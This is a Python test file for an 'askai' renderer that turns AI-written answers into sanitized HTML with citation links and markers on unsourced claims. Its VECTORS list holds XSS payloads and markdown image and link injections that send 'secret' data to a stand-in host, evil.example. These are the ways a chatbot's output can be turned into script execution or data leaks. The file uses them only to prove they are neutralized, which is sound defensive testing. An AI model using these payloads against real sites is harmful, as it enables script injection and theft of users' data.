import re

import pytest

from askai.answer.citations import AnswerBlock, Citation
from askai.answer.claims import Unsourced
from askai.answer.rendering import Extras, answer_html

VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "[click](javascript:alert(1))",
    "[click](https://evil.example/?q=secret)",
    "![](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/",
    "<https://evil.example/>",
    "<a href='//evil.example' onclick=alert(1)>x</a>",
    "<style>@import url(//evil.example)</style>",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "</div></body><form action=//evil.example><input name=a>",
    "\ue0001\ue001 \ue00099\ue001",
    "<<script>alert(1)//<</script>",
    "`<script>alert(1)</script>`",
    "<details open ontoggle=alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
]
MARKUP = re.compile(r"<\s*/?\s*([a-zA-Z][\w-]*)([^>]*)>")
ALLOWED = {"div", "p", "br", "em", "strong", "ul", "ol", "li", "code", "pre", "blockquote", "a", "span", "q",
           "details", "summary"}  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
def test_it_makes_what_a_model_says_inert(vector):
    for split in range(0, len(vector), 3):
        html = answer_html([AnswerBlock(vector[:split]), AnswerBlock(vector[split:])], [], Extras())

        for tag, attributes in MARKUP.findall(html):
            assert tag in ALLOWED - {"a"}
            assert not re.search(r"\bon\w+\s*=|src\s*=|href\s*=|style\s*=", attributes)


def test_it_puts_a_chip_after_the_words_it_supports(settings):
    settings.SITE_URL = "https://example.org"
    cited = Citation("https://example.org/pages/a/#one", 'A "title" <b>', "words <i>")

    html = answer_html([AnswerBlock("Yes, *she* did. ", [1]), AnswerBlock("Twice.")], [cited], Extras())

    assert (
        'did.<a class="cite" href="/pages/a/#one:~:text=words%20%3Ci%3E" title="A &quot;title&quot; &lt;b&gt;">' in html
    )
    assert "<em>she</em>" in html
    assert "<q>words &lt;i&gt;</q>" in html


def test_it_offers_a_person_only_by_mail_or_web():
    good = answer_html([], [], Extras(contact_url="mailto:ada@example.org", owner="Ada"))
    bad = answer_html([], [], Extras(contact_url="javascript:alert(1)", owner="Ada"))

    assert "mailto:ada@example.org" in good
    assert "javascript" not in bad


def test_it_leads_to_the_very_words_quoted(settings):
    settings.SITE_URL = "https://example.org"
    long = "She moved the editor, step by step, to weekly-ish releases & kept them."
    cited = [
        Citation("https://example.org/pages/a/#one", "A", long),
        Citation("https://example.org/pages/a/#one", "A", "Twice."),
    ]

    html = answer_html([AnswerBlock("Yes.", [1, 2])], cited, Extras())

    marked = "text=She%20moved%20the%20editor%2C,releases%20%26%20kept%20them."
    assert f'href="/pages/a/#one:~:{marked}"' in html
    assert f'class="source" href="/pages/a/#one:~:{marked}&amp;text=Twice."' in html


def marked(text: str, sentence: str) -> str:
    start = text.index(sentence)
    unsourced = [Unsourced(start, start + len(sentence), sentence, "uncited")]
    return answer_html([AnswerBlock(text[:7]), AnswerBlock(text[7:])], [], Extras(), unsourced)


@pytest.mark.parametrize(
    ("text", "sentence", "shown"),
    [
        ("She rows. She led 300 people. Yes.", "She led 300 people.", "led 300 people</span>"),
        (
            "**She rows. She *led* 300** people.",
            "She *led* 300** people.",
            '<em><span class="unsourced">led</span></em>',
        ),
        (
            "- She rows\n- She led 300 people",
            "She led 300 people",
            '<li><span class="unsourced">She led 300 people</span>',
        ),
        (
            "```\nShe led 300 people.\n```",
            "She led 300 people.",
            '<pre><code><span class="unsourced">She led 300 people',
        ),
        ("She rows. <b>She led</b> 300 people.", "She led</b> 300 people.", "She led&lt;/b&gt; 300 people</span>"),
    ],
)
def test_it_wraps_the_words_without_a_source_whatever_they_stand_in(text, sentence, shown):
    html = marked(text, sentence)

    assert shown in html
    assert html.count("(no source for this)") == 1
    assert html.count("<span") == html.count("</span>")
    assert not any("\ue000" <= sign <= "\uf8ff" for sign in html)


@pytest.mark.parametrize("bomb", ["_a", "*a_ ", "_*", "a\n", "<b>&"])
def test_it_shows_a_text_beyond_all_measure_as_plain_paragraphs(bomb):
    html = answer_html([AnswerBlock(bomb * 20_000)], [], Extras())

    assert "<em>" not in html
    assert "<b>" not in html
    assert html.count(bomb[0].replace("<", "&lt;")) >= 20_000
